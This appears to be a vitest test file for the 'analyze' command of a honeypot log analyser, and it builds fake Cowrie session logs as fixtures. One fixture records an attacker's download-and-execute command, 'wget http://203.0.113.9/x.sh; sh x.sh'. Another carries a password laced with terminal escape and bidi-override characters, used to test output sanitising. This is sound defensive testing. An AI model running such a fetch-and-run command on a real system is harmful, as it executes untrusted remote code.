/** `analyze` as its user meets it. */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { captured } from './captured.fixture.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'ns-analyze-'));
  mkdirSync(join(folder, 'logs'));
  mkdirSync(join(folder, 'home'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const at = (second: number) => new Date(Date.UTC(2026, 10, 20, 9, 30, second)).toISOString();

function cowrie(ip: string, events: readonly (readonly [string, object?])[]): string {
  return events
    .map(([eventid, more], second) =>
      JSON.stringify({
        eventid: `cowrie.${eventid}`,
        timestamp: at(second),
        src_ip: ip,
        session: `s${ip}`,
        sensor: 'pot1',
        ...more,
      }),
    )
    .join('\n');
}

function logs(): string {
  const breakIn = cowrie('198.51.100.7', [
    ['session.connect', { src_port: 40112 }],
    ['login.failed', { username: 'root', password: 'a' }],
    ['login.success', { username: 'root', password: '\u202eadmin\u001b[2J' }],
    ['command.input', { input: 'wget http://203.0.113.9/x.sh; sh x.sh' }],
    ['session.closed'],
  ]);
  writeFileSync(join(folder, 'logs', 'cowrie.json'), `${breakIn}\n`);
  writeFileSync(
    join(folder, 'logs', 'old.gz'),
    gzipSync(cowrie('203.0.113.5', [['session.connect'], ['session.closed']])),
  );
  writeFileSync(join(folder, 'logs', 'README.md'), 'Nothing to see.\n');
  return join(folder, 'logs');
}

const analyze = (...args: readonly string[]) => captured(['--data', join(folder, 'home'), 'analyze', ...args]);

describe('analyze', () => {
  it('tells of each attacker in a folder, the worst first, and names what it cannot read', async () => {
    const { code, out, err } = await analyze(logs());
    expect(code).toBe(0);
    const lines = out.split('\n');
    expect(lines[1]).toContain('198.51.100.7');
    expect(lines[1]).toMatch(/^(high|critical)/);
    expect(lines[2]).toContain('203.0.113.5');
    expect(out).toContain('2 incidents in 7 events of 2 files');
    expect(err).toContain('README.md: no format that we read');
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
  });

  it('prints an incident a line for programs', async () => {
    const { out } = await analyze(logs(), '--json');
    const [first, second, ...rest] = out
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rest).toEqual([]);
    expect(first).toMatchObject({
      attacker: { ip: '198.51.100.7' },
      first_seen: at(0),
      last_seen: at(4),
      techniques: expect.arrayContaining(['T1105']),
      detections: expect.arrayContaining([{ id: 'decoy-login-success', title: expect.any(String), count: 1 }]),
    });
    expect(second).toMatchObject({ attacker: { ip: '203.0.113.5' }, severity: 'info' });
  });

  it('asks rules of the user as well', async () => {
    const rule = join(folder, 'mine.yml');
    writeFileSync(
      rule,
      'title: Mine\nid: 6f3e4b0e-0000-4000-8000-000000000001\nlogsource: {}\nlevel: critical\ntags: [attack.t1078]\ndetection:\n  sel:\n    user.name: root\n    event.outcome: success\n  condition: sel\n',
    );
    const { out } = await analyze(logs(), '--json', '--rules', rule);
    expect(JSON.parse(out.split('\n')[0]!)).toMatchObject({
      severity: 'critical',
      detections: expect.arrayContaining([{ id: '6f3e4b0e-0000-4000-8000-000000000001', title: 'Mine', count: 1 }]),
    });
  });

  it('writes a report that only its owner may read', async () => {
    const report = join(folder, 'report.html');
    const { err } = await analyze(logs(), '--report', report);
    expect(err).toContain('report.html');
    expect(statSync(report).mode & 0o777).toBe(0o600);
    expect(readFileSync(report, 'utf8')).toContain('198.51.100.7');
    const failed = await analyze(logs(), '--report', join(folder, 'nowhere', 'report.html'));
    expect(failed.code).toBe(1);
    expect(failed.err).toContain('could not be written');
  });

  it('says what is missing', async () => {
    expect(await analyze()).toMatchObject({ code: 1, err: expect.stringContaining('no logs are named') });
    expect(await analyze(join(folder, 'nowhere'))).toMatchObject({
      code: 4,
      err: expect.stringContaining('cannot read'),
    });
  });
});
